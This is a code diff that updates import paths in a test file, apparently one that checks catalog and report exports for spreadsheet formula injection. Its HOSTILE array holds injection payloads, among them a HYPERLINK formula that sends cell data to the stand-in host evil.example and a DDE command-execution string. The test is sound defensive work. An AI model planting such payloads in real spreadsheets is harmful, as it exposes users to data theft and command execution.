@@ -3,13 +3,13 @@
 // exceljs writes strings as strings (no <f> element anywhere); in CSV, csvField puts an apostrophe in front,
 // and reading it back removes it, so the catalog still round-trips unchanged.
 import JSZip from 'jszip';
-import { buildMonthlyReport } from '../../src/campaign/monthly-report.builder';
-import { monthlyReportXlsx } from '../../src/campaign/monthly-report.export';
+import { buildMonthlyReport } from '../../src/monthly-report/monthly-report.builder';
+import { monthlyReportXlsx } from '../../src/monthly-report/monthly-report.export';
 import { catalogCsv, catalogXlsx } from '../../src/catalog/catalog.export';
 import { parseCatalogCsv, parseCatalogXlsx } from '../../src/catalog/catalog.parser';
 import type { Catalog } from '../../src/catalog/catalog.types';
 import { diffCatalog, planCatalog } from '../../src/catalog/catalog.validator';
-import { csvField, tokenizeCsv } from '../../src/spreadsheet';
+import { csvField, tokenizeCsv } from '../../src/platform/spreadsheet';
 import { initialState } from '../../workflows/indicator-task/indicator-task.evolve';
 
 const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1,2)', '\t=1+1', '=1+1'];
